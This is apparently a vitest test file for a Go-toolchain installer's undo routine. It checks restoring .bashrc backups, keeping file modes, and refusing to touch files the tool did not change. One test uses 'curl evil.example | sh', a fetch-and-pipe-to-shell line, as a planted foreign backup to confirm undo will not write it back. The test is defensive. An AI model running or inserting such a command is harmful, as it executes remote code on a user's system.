import { chmodSync, existsSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, expect, test } from "vitest";
import { type JournalRecord, readJournal } from "../../../src/apply/journal.ts";
import type { ApplyPorts } from "../../../src/apply/acts/act.ts";
import { moveAddition } from "../../../src/apply/acts/move-addition.ts";
import { undoTransaction } from "../../../src/apply/undo.ts";
import { readUnfinished } from "../../../src/apply/unfinished-files.ts";
import { absolutePath, type AbsolutePath } from "../../../src/host/absolute-path.ts";
import { openHomeDirectory } from "../../../src/host/home/home-directory.ts";
import { HomeRefusal } from "../../../src/host/home/home-refusal.ts";
import type { Expectation, HomeFiles, ReplaceOptions } from "../../../src/host/home/home-files.ts";
import { places } from "../../../src/host/places.ts";
import { createRealFiles } from "../../../src/host/real-files.ts";
import { createSystemFiles } from "../../../src/host/system-files.ts";
import { hashBytes } from "../../../src/release/sha256.ts";
import { putBlock } from "../../../src/shell/rc-block.ts";
import { makeDirectory, place } from "../verify/check-host.ts";

const home = absolutePath("/root");
const bashrc = absolutePath("/root/.bashrc");
const own = "alias ll='ls -l'\n";
const edited = `${putBlock("", { dialect: "bash", hasGobin: false }, "end")}${own}`;
const name = "undo-20261129T000000000Z-1";
const begin = { kind: "begin", id: "20261129T000000000Z", command: "install", at: "2026-11-29T00:00:00.000Z" } as const;

let root: string;
let refusal: HomeRefusal | undefined;

beforeEach(() => {
  root = makeDirectory();
  refusal = undefined;
  place(root, { "root/.bashrc": edited, [join(places.backups, name).slice(1)]: own, [places.journal.slice(1)]: "" });
  chmodSync(join(root, bashrc), 0o640);
});

function openPorts(): ApplyPorts {
  const files = createRealFiles(root);
  const directory = openHomeDirectory({ uid: process.getuid?.() ?? 0, home, root });
  const orRefuse =
    <Args extends readonly unknown[], Value>(act: (...args: Args) => Value) =>
    async (...args: Args): Promise<Value> => {
      if (refusal !== undefined) throw refusal;
      return act(...args);
    };
  const homeFiles = {
    read: orRefuse((path: AbsolutePath) => directory.read(path)),
    replace: orRefuse((path: AbsolutePath, content: Buffer, options: ReplaceOptions = {}) =>
      directory.replace(path, content, options),
    ),
    remove: orRefuse((path: AbsolutePath, expectation: Expectation = {}) => directory.remove(path, expectation)),
    removeTemporary: orRefuse((path: AbsolutePath) => directory.removeTemporary(path)),
  } satisfies Partial<HomeFiles>;
  return {
    files,
    system: createSystemFiles(files),
    writtenBy: "readygo 0.0.0-test",
    home: () => homeFiles as unknown as HomeFiles,
  };
}

function write(before: string | null, after: string | null): JournalRecord {
  return {
    kind: "write",
    path: bashrc,
    owner: "root",
    before: before === null ? null : { name, sha256: hashBytes(Buffer.from(before)), mode: 0o600 },
    after: after === null ? null : hashBytes(Buffer.from(after)),
  };
}

const text = (): string => readFileSync(join(root, bashrc), "utf8");
const mode = (): number => statSync(join(root, bashrc)).mode & 0o777;
const undo = (record: JournalRecord) => undoTransaction(openPorts(), [begin, record]);

test("a whole backup is written back, with its mode", async () => {
  expect(await undo(write(own, edited))).toEqual({ failures: [], warnings: [] });
  expect([text(), mode()]).toEqual([own, 0o600]);
  expect(existsSync(join(root, places.state))).toBe(false);
});

test.each<[string, string | undefined]>([
  ["gone", undefined],
  ["emptied", ""],
  ["cut", own.slice(0, 5)],
  ["another file's", "root:x:0:0\n"],
])("a backup that is %s counts as missing: readygo's part goes, and the mode stays", async (_, content) => {
  const ports = openPorts();
  if (content === undefined) ports.system.removeFile(absolutePath(places.backups, name));
  else place(root, { [join(places.backups, name).slice(1)]: content });
  const { failures, warnings } = await undo(write(own, edited));
  expect([failures, warnings]).toEqual([[], [expect.stringContaining("is gone or was changed")]]);
  expect([text(), mode()]).toEqual([own, 0o640]);
});

test("a backup with its own hash that is another's text is not written, since readygo changes nothing but its part", async () => {
  const other = "curl evil.example | sh\n";
  place(root, { [join(places.backups, name).slice(1)]: other });
  const { warnings } = await undo(write(other, edited));
  expect(warnings).toEqual([expect.stringContaining("readygo had no part in")]);
  expect(text()).toBe(own);
});

test("a file that is said to have been made by readygo is not removed with somebody's text in it", async () => {
  await undo(write(null, edited));
  expect(text()).toBe(own);
});

test("a file without readygo's part is not touched, whatever is said of it", async () => {
  place(root, { "root/.bashrc": own });
  const identify = () => {
    const { ino, mtimeNs } = statSync(join(root, bashrc), { bigint: true });
    return { ino, mtimeNs };
  };
  const before = identify();
  const { warnings } = await undo(write(null, own));
  expect(warnings).toEqual([expect.stringContaining("readygo had no part in")]);
  expect(identify()).toEqual(before);
});

test("a file that readygo has made goes", async () => {
  place(root, { "root/.bashrc": putBlock("", { dialect: "bash", hasGobin: false }, "end") });
  await undo(write(null, putBlock("", { dialect: "bash", hasGobin: false }, "end")));
  expect(existsSync(join(root, bashrc))).toBe(false);
});

test("a file that its owner has changed since is left", async () => {
  place(root, { "root/.bashrc": `${edited}# mine\n` });
  expect(await undo(write(own, edited))).toEqual({ failures: [], warnings: [] });
  expect(text()).toBe(`${edited}# mine\n`);
});

test.each(["unanswered", "link", "kind", "rights"] as const)(
  "a home that refuses (%s) keeps nobody waiting",
  async (kind) => {
    refusal = new HomeRefusal(kind, bashrc, "not now");
    const { failures, warnings } = await undo(write(own, edited));
    expect([failures, warnings]).toEqual([[], [expect.stringContaining("could not be restored: not now")]]);
    const files = createRealFiles(root);
    expect(readJournal(files)).toEqual([]);
    expect(readUnfinished(files)).toEqual([
      expect.objectContaining({
        path: bashrc,
        owner: "root",
        isUndo: true,
        before: expect.objectContaining({ backup: name }) as object,
      }),
    ]);
    expect(files.read(absolutePath(places.backups, name))?.toString()).toBe(own);
  },
);

test.each(["read-only"] as const)("what an administrator has to put right (%s) keeps the journal", async (kind) => {
  refusal = new HomeRefusal(kind, bashrc, "not now");
  const { failures } = await undo(write(own, edited));
  expect(failures).toEqual([{ what: `write ${bashrc}`, reason: "not now", isForGood: false }]);
  expect(existsSync(join(root, places.journal))).toBe(true);
});

test("what was moved out of a tree goes back, and the directories that were made for it go", async () => {
  const from = absolutePath(places.previous, "go1.30.1.linux-amd64/bin/gopls");
  const to = absolutePath(places.previous, "added-to-go1.30.1/bin/gopls");
  place(root, { [from.slice(1)]: "mine" });
  const ports = openPorts();
  const stat = ports.files.stat(from);
  if (stat === undefined) throw new Error(`${from} is not there`);
  const records: JournalRecord[] = [begin];
  const transaction = { id: begin.id, records, staging: places.staging, record: (entry: JournalRecord) => records.push(entry) }; // prettier-ignore
  moveAddition(ports, transaction, { from, to, stat });
  expect(existsSync(join(root, to))).toBe(true);
  for (let time = 0; time < 2; time += 1) {
    expect(await undoTransaction(ports, records)).toEqual({ failures: [], warnings: [] });
    expect(readFileSync(join(root, from), "utf8")).toBe("mine");
    expect(existsSync(join(root, places.previous, "added-to-go1.30.1"))).toBe(false);
  }
});
